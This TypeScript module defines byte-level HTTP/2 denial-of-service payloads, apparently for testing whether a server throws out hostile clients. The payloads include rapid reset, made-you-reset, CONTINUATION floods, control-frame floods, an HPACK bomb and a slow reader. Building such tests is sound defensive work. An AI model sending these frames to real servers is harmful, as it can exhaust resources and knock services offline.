/** Attacks: what each kind of malicious HTTP/2 client sends, one piece after the other until it is thrown out. */
import {
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  literal,
  PING,
  PREFACE,
  PRIORITY,
  requestBlock,
  RST_STREAM,
  SETTINGS,
  setting,
  uint32,
  WINDOW_UPDATE,
} from './frames.js';

export interface Attack {
  readonly name: string;
  /** What is known of it. */
  readonly about: string;
  /** After the preface and SETTINGS. */
  readonly opening: () => Buffer;
  /** The next piece; count: of pieces of this connection so far. Empty = it only holds what it has. */
  readonly more: (count: number) => Buffer;
}

const NOTHING = Buffer.alloc(0);
const GET = requestBlock('GET', '/');
const POST = requestBlock('POST', '/');
const FRAMES_PER_PIECE = 64;
const SETTINGS_INITIAL_WINDOW_SIZE = 4;

function piece(make: (at: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: FRAMES_PER_PIECE }, (_, at) => make(at)));
}
/** The stream of the n-th request of a connection. */
const streamOf = (count: number, at: number): number => (count * FRAMES_PER_PIECE + at) * 2 + 1;
const none = (): Buffer => NOTHING;
const same = (bytes: Buffer): (() => Buffer) => {
  const whole = piece(() => bytes);
  return () => whole;
};
const openPost = (): Buffer => frame(HEADERS, END_HEADERS, 1, POST);

/** A value of 4,000 bytes put into the table, then named again and again: each byte stands for 4,000. */
function bombBlock(): Buffer {
  const value = Buffer.alloc(4000, 'a');
  const length = Buffer.from([0x7f, ...leb(4000 - 127)]);
  const entry = Buffer.concat([Buffer.from([0x40, 1]), Buffer.from('x'), length, value]);
  return Buffer.concat([GET, entry, Buffer.alloc(10000, 0xbe)]);
}

/** RFC 7541 §5.1: what follows a full prefix. */
function leb(value: number): number[] {
  return value < 128 ? [value] : [(value & 127) | 128, ...leb(value >> 7)];
}

export const ATTACKS: readonly Attack[] = [
  {
    name: 'rapid-reset',
    about: 'requests that are cancelled at once (CVE-2023-44487)',
    opening: none,
    more: (count) =>
      piece((at) =>
        Buffer.concat([
          frame(HEADERS, END_HEADERS | END_STREAM, streamOf(count, at), GET),
          frame(RST_STREAM, 0, streamOf(count, at), uint32(8)),
        ]),
      ),
  },
  {
    name: 'made-you-reset',
    about: 'requests that the server itself has to reset (CVE-2025-8671)',
    opening: none,
    more: (count) =>
      piece((at) =>
        Buffer.concat([
          frame(HEADERS, END_HEADERS | END_STREAM, streamOf(count, at), GET),
          frame(WINDOW_UPDATE, 0, streamOf(count, at), uint32(0)),
        ]),
      ),
  },
  {
    name: 'continuation',
    about: 'a header block that never ends',
    opening: () => frame(HEADERS, 0, 1, GET),
    more: same(frame(CONTINUATION, 0, 1, literal('x-a', 'b'))),
  },
  { name: 'settings', about: 'SETTINGS to acknowledge', opening: none, more: same(frame(SETTINGS, 0, 0)) },
  { name: 'ping', about: 'PING to answer', opening: none, more: same(frame(PING, 0, 0, Buffer.alloc(8))) },
  { name: 'empty-data', about: 'DATA without data', opening: openPost, more: same(frame(DATA, 0, 1)) },
  {
    name: 'priority',
    about: 'PRIORITY of a stream, over and over',
    opening: openPost,
    more: same(frame(PRIORITY, 0, 1, Buffer.from([0, 0, 0, 0, 15]))),
  },
  {
    name: 'window-update',
    about: 'windows that grow by a byte',
    opening: none,
    more: same(frame(WINDOW_UPDATE, 0, 0, uint32(1))),
  },
  {
    name: 'empty-headers',
    about: 'fields without a name and a value',
    opening: none,
    more: (count) =>
      frame(HEADERS, END_HEADERS | END_STREAM, streamOf(count, 0), Buffer.concat([GET, Buffer.alloc(15000)])),
  },
  {
    name: 'hpack-bomb',
    about: 'a block of 14 KB that stands for 40 MB of fields',
    opening: none,
    more: (count) => frame(HEADERS, END_HEADERS | END_STREAM, streamOf(count, 0), bombBlock()),
  },
  {
    name: 'slow-reader',
    about: 'answers asked for and never taken',
    opening: () => frame(SETTINGS, 0, 0, setting(SETTINGS_INITIAL_WINDOW_SIZE, 1)),
    more: (count) => {
      if (count > 0) return NOTHING;
      return piece((at) => frame(HEADERS, END_HEADERS | END_STREAM, streamOf(0, at), requestBlock('GET', '/large')));
    },
  },
  {
    name: 'stream-ids',
    about: 'streams that a client may not open',
    opening: none,
    more: () => frame(HEADERS, END_HEADERS | END_STREAM, 2, GET),
  },
];

/** How every connection begins. */
export const BEGINNING: Buffer = Buffer.concat([PREFACE, frame(SETTINGS, 0, 0)]);
